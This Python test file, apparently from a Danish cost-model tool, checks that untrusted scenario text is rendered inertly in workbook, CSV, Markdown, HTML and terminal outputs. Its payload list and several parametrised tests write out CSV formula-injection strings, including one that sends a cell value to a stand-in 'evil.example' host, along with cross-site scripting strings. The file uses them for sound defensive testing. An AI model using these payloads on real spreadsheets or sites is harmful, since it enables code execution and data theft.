"""Scenario text reaches every output as text (issue 9): never a spreadsheet formula, never markup, never a
terminal control sequence. Hostile strings are generated for every free-text field of both scenario kinds, and
every output format is checked with its own reader: openpyxl for .xlsx, the csv module for CSV (plain and Danish
dialect), a CommonMark parser for Markdown, html.parser for HTML. The checks here do not use costmodel's own
neutraliser; they say what a spreadsheet, a Markdown renderer and a browser would do with the output.
"""
from __future__ import annotations

import copy
import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

import costmodel
from costmodel.report import export, memo, render
from costmodel.report.analysis_text import render as analysis_render

ROOT = Path(__file__).resolve().parents[1]
PROSPECTIVE = ROOT / "scenarios" / "aktivt_faellesskab.yaml"
EXPOST = ROOT / "examples" / "expost_eget_eksempel.yaml"

# ------------------------------------------------------------------------------------------------ the oracles

FORMULA_START = tuple("=+-@") + ("\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"^[-+]?(\d+([.,]\d*)?|[.,]\d+)([eE][-+]?\d+)?$")


def spreadsheet_runs(field: str) -> bool:
    """Would Excel/LibreOffice read this CSV field as a formula (leading blanks, tab or CR skipped, OWASP)?"""
    if not field or NUMBER.match(field.strip()):
        return False
    return field.lstrip(" \t\r\n\u00a0")[:1] in FORMULA_START or field[:1] in "\t\r"


def check_csv(text: str, delimiter: str) -> None:
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter):
        for field in row:
            assert not spreadsheet_runs(field), f"CSV field would run as a formula: {field!r}"


def check_workbook(wb) -> None:
    """Every text cell is a text cell (never a formula), and one that looks like a formula has the quote prefix;
    numbers stay numbers. Checked on the saved file as Excel would read it."""
    from openpyxl import load_workbook

    buffer = io.BytesIO()
    wb.save(buffer)
    buffer.seek(0)
    saved = load_workbook(buffer)
    numbers = 0
    for ws in saved.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and spreadsheet_runs(cell.value):
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} lacks the quote prefix: {cell.value!r}"
                if isinstance(cell.value, (int, float)):
                    numbers += 1
    assert numbers > 10  # the result, inputs and tables are still numbers


_md = MarkdownIt("commonmark")


def check_markdown(text: str, headings: int | None = None) -> None:
    """Rendered as CommonMark: no raw HTML, no link or image but to a plain relative file, no code block, and
    (when given) exactly the headings the document itself writes."""
    tokens = _md.parse(text)
    seen_headings = 0
    for token in tokens:
        assert token.type not in ("html_block", "fence", "code_block"), (token.type, token.content[:80])
        if token.type == "heading_open":
            seen_headings += 1
        for child in token.children or []:
            assert child.type != "html_inline", child.content
            if child.type in ("link_open", "image"):
                target = child.attrs.get("href") or child.attrs.get("src") or ""
                assert re.fullmatch(r"[A-Za-z0-9_.~%-]+", target), f"link to {target!r}"
    if headings is not None:
        assert seen_headings == headings, f"{seen_headings} headings, expected {headings}"


class _Tags(HTMLParser):
    ALLOWED = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "strong", "ul", "li",
               "figure", "img", "figcaption", "table", "thead", "tbody", "tr", "th", "td", "a"}

    def __init__(self):
        super().__init__()
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in self.ALLOWED:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"attribute {name}")
            if name == "href" and not re.fullmatch(r"[A-Za-z0-9_.~%-]+", value or ""):
                self.problems.append(f"href {value!r}")
            if name == "src" and not (value or "").startswith("data:image/png;base64,"):
                self.problems.append(f"src {value[:40]!r}")


def check_html(text: str) -> None:
    parser = _Tags()
    parser.feed(text)
    assert not parser.problems, parser.problems


def check_terminal(text: str) -> None:
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text), repr(text[:200])


# ------------------------------------------------------------------------------------------------ hostile text

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "+1+2", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", " =1+1", "\uff1d1+1", "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">', "<iframe src=javascript:alert(1)></iframe>", "[klik](javascript:alert(1))",
    "![x](javascript:alert(1))", "<javascript:alert(1)>", "x\n# Overskrift\n```\nkode", "x\n\n    indrykket kode",
    "| a | b |\n|---|---|", "$x^$ \\frac{", "*fed* _kursiv_ `kode`", "&lt;script&gt;", "1. liste", "> citat",
    "---", "x\n===", "~~~",
]
# what the loader lets through: no C0 control characters but tab and newline, no DEL/C1, no bidi overrides, no
# U+FFFE/U+FFFF (not printable in YAML)
SAFE_ALPHABET = st.characters(blacklist_categories=("Cs",), blacklist_characters=(
    [chr(c) for c in range(0x20) if chr(c) not in "\t\n"] + [chr(c) for c in range(0x7f, 0xa0)]
    + [chr(c) for c in (0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0xfeff,
                                  0xfffe, 0xffff)]))
hostile = st.builds(lambda p, tail: (p + tail)[:300],
                    st.sampled_from(PAYLOADS), st.text(SAFE_ALPHABET, max_size=20))


def _leaves(data, keys: set[str], path=()):
    """Paths of every string value under one of `keys` (the free-text fields)."""
    if isinstance(data, dict):
        for k, v in data.items():
            if isinstance(v, str) and k in keys:
                yield path + (k,)
            else:
                yield from _leaves(v, keys, path + (k,))
    elif isinstance(data, list):
        for i, v in enumerate(data):
            yield from _leaves(v, keys, path + (i,))


def _set(data, path, value):
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = value


PROSPECTIVE_TEXT = {"title", "municipality", "report", "section", "table", "quote", "source", "label", "item",
                    "course", "note", "notes", "text", "evidence"}
EXPOST_TEXT = {"title", "municipality", "source", "item", "singular", "plural", "label", "note", "derivation"}


def hostile_scenario(tmp_path: Path, base: Path, fields: set[str], text: str) -> Path:
    data = yaml.safe_load(base.read_text(encoding="utf-8"))
    changed = copy.deepcopy(data)
    paths = list(_leaves(changed, fields))
    assert len(paths) >= 5
    for i, path in enumerate(paths):
        _set(changed, path, f"{text} {i}")  # the hostile part leads; the number keeps labels apart
    if base == EXPOST:
        changed["source"] = f"{text} kilde"  # the example has none; give the field too
        (tmp_path / "expost_registreringer.csv").write_bytes((base.parent / "expost_registreringer.csv").read_bytes())
    out = tmp_path / base.name
    out.write_text(yaml.safe_dump(changed, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return out


def check_every_output(scenario) -> None:
    result = costmodel.evaluate(scenario)
    tables = costmodel.sweep(scenario)
    analyses = []
    if getattr(scenario, "uncertainty", None):
        from costmodel.analyses.tornado import tornado

        analyses.append(tornado(scenario))
    # spreadsheets
    check_workbook(export.build_workbook(scenario, result, tables, analyses))
    frame = export.long_frame(result, tables, analyses)
    check_csv(export.csv_text(frame, "plain"), ",")
    check_csv(export.csv_text(frame, "danish"), ";")
    inputs = export.inputs_frame(scenario, getattr(result, "rates", None))
    check_csv(export.csv_text(inputs, "plain"), ",")
    check_csv(render.frame_csv(result.lines.assign(price_year=result.price_year)), ",")  # run --lines
    check_csv(render.result_text(result, "csv"), ",")
    check_csv(render.sweep_text(tables, "csv"), ",")
    for a in analyses:
        check_csv(analysis_render(a, "csv"), ",")
    # Markdown
    check_markdown(export.markdown_text(scenario, result, tables, analyses))
    check_markdown(render.result_text(result, "markdown"), headings=1)
    check_markdown(render.sweep_text(tables, "markdown"), headings=len(tables))
    # terminal
    check_terminal(render.result_text(result, "table"))
    check_terminal(render.sweep_text(tables, "table"))


SETTINGS = settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@SETTINGS
@given(text=hostile)
def test_prospective_free_text_stays_text_in_every_output(tmp_path_factory, text):
    path = hostile_scenario(tmp_path_factory.mktemp("p"), PROSPECTIVE, PROSPECTIVE_TEXT, text)
    check_every_output(costmodel.load(path))


@SETTINGS
@given(text=hostile)
def test_expost_free_text_stays_text_in_every_output(tmp_path_factory, text):
    path = hostile_scenario(tmp_path_factory.mktemp("e"), EXPOST, EXPOST_TEXT, text)
    check_every_output(costmodel.load(path))


@settings(max_examples=60, deadline=None)
@given(text=hostile, name=st.text(SAFE_ALPHABET, min_size=1, max_size=30).map(lambda s: s.replace("/", "")))
def test_memo_blocks_render_text_as_text(text, name):
    """Headings, paragraphs, lists, tables, images and links of the memo, in Markdown and HTML."""
    name = name.strip() or "x"
    blocks = [memo.Block("h1", text), memo.Block("h2", text), memo.Block("p", text),
              memo.Block("strong", text), memo.Block("ul", items=[text, text]),
              memo.Block("table", headers=["", text], rows=[[text, text]]),
              memo.Block("img", text, href=f"{name}.png"),
              memo.Block("p", text, href=f"{name}.xlsx", link_text=f"{name}.xlsx")]
    check_markdown(memo.to_markdown(blocks), headings=2)
    check_html(memo.to_html(blocks, text, {f"{name}.png": b"\x89PNG"}))


@pytest.mark.parametrize("name", ["javascript:alert(1).xlsx", "mit regneark (2).xlsx", 'a"><script>x.xlsx',
                                  "](javascript:alert(1)).xlsx"])
def test_memo_links_from_file_names_stay_relative(name):
    blocks = [memo.Block("p", "Regneark:", href=name, link_text=name)]
    md = memo.to_markdown(blocks)
    check_markdown(md)
    link = _md.parse(md)[1].children
    hrefs = [c.attrs["href"] for c in link if c.type == "link_open"]
    assert len(hrefs) == 1 and unquote(hrefs[0]) == name and ":" not in hrefs[0]  # the file, relative
    check_html(memo.to_html(blocks, "t", {}))


def test_workbook_keeps_numbers_numbers_and_text_text(tmp_path):
    """The concrete attack strings of the issue, in the workbook the export writes (read back from the file)."""
    from openpyxl import load_workbook

    path = hostile_scenario(tmp_path, PROSPECTIVE, PROSPECTIVE_TEXT, "=cmd|' /C calc'!A0")
    scenario = costmodel.load(path)
    out = tmp_path / "x.xlsx"
    export.write_workbook(out, scenario, costmodel.evaluate(scenario), costmodel.sweep(scenario))
    wb = load_workbook(out)
    ws = wb["Forudsætninger"]
    titles = [c.value for c in ws["A"] if isinstance(c.value, str) and "calc" in c.value]
    assert titles and all(c.data_type == "s" for c in ws["A"] if isinstance(c.value, str))
    values = [c.value for c in ws["C"] if c.value is not None]
    assert any(isinstance(v, (int, float)) for v in values)


def test_sheet_names_excel_refuses_are_never_written():
    taken: set[str] = set()
    names = [export._sheet_name(t, taken) for t in ("History", "history", "'quoted'", "x" * 40, "a/b:c*?[d]",
                                                    "tab\there", "'", "=1+1")]
    for name in names:
        assert 1 <= len(name) <= 31 and name.lower() != "history"
        assert not re.search(r"[\[\]:*?/\\\x00-\x1f]", name) and not name.startswith("'") and not name.endswith("'")
    assert len({n.lower() for n in names}) == len(names)


def test_terminal_output_has_no_control_characters(tmp_path):
    """ESC and BEL cannot reach run/validate output: the loader refuses them, and the output escapes them anyway."""
    from typer.testing import CliRunner

    from costmodel.cli import app
    from costmodel.io.neutralise import terminal

    assert terminal("a\x1b[31mb\x07c\u202ed") == "a\\x1b[31mb\\x07c\\u202ed"
    text = PROSPECTIVE.read_text(encoding="utf-8").replace("title: Aktivt fællesskab", 'title: "a\\e[31mb\\a"', 1)
    path = tmp_path / "t.yaml"
    path.write_text(text, encoding="utf-8")
    for command in ("run", "validate"):
        result = CliRunner().invoke(app, [command, str(path)])
        assert result.exit_code == 2 and "control character (U+001B" in result.output
        check_terminal(result.output)


@pytest.mark.parametrize("group", ["=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(1)", '=HYPERLINK("http://x","y")'])
def test_expost_staff_group_from_the_registrations_stays_text(tmp_path, group):
    """The ex-post staff group comes from the registrations CSV and the scenario's personalegrupper mapping."""
    data = yaml.safe_load(EXPOST.read_text(encoding="utf-8"))
    data["registreringer"]["personalegrupper"] = {group: "gruppeleder"}
    rows = list(csv.reader(io.StringIO((EXPOST.parent / "expost_registreringer.csv").read_text(encoding="utf-8"))))
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([[group if c == "familieterapeut" else c for c in r]
                                                       for r in rows])
    (tmp_path / "expost_registreringer.csv").write_text(buffer.getvalue(), encoding="utf-8")
    path = tmp_path / "e.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    scenario = costmodel.load(path)
    result = costmodel.evaluate(scenario)
    assert result.lines["staff_group"].astype(str).str.contains(re.escape(group.strip())).any()
    check_every_output(scenario)


@pytest.mark.parametrize("base, fields, fmt", [(PROSPECTIVE, PROSPECTIVE_TEXT, "markdown"),
                                               (PROSPECTIVE, PROSPECTIVE_TEXT, "html"),
                                               (EXPOST, EXPOST_TEXT, "markdown")])
def test_the_memo_end_to_end_keeps_hostile_text_text(tmp_path, base, fields, fmt):
    """`costmodel report` on a scenario whose every free text is an attack: the memo (Markdown or HTML), its
    workbook and the terminal output, each read as its target would read it."""
    from openpyxl import load_workbook
    from typer.testing import CliRunner

    from costmodel.cli import app

    text = "=HYPERLINK(\"javascript:alert(1)\") <script>alert(1)</script> [x](javascript:alert(1))\n# H\n```"
    path = hostile_scenario(tmp_path, base, fields, text)
    out = tmp_path / "memo"
    result = CliRunner().invoke(app, ["report", str(path), "-o", str(out), "-f", fmt, "--draws", "100"])
    assert result.exit_code == 0, result.output
    check_terminal(result.output)
    memo_text = (out / ("notat.md" if fmt == "markdown" else "notat.html")).read_text(encoding="utf-8")
    if fmt == "markdown":
        check_markdown(memo_text)  # (the text '\\[x\\](javascript:...' is there, escaped: it renders as text)
    else:
        assert "<script>" not in memo_text
        check_html(memo_text)
    (workbook,) = out.glob("*.xlsx")
    check_workbook(load_workbook(workbook))
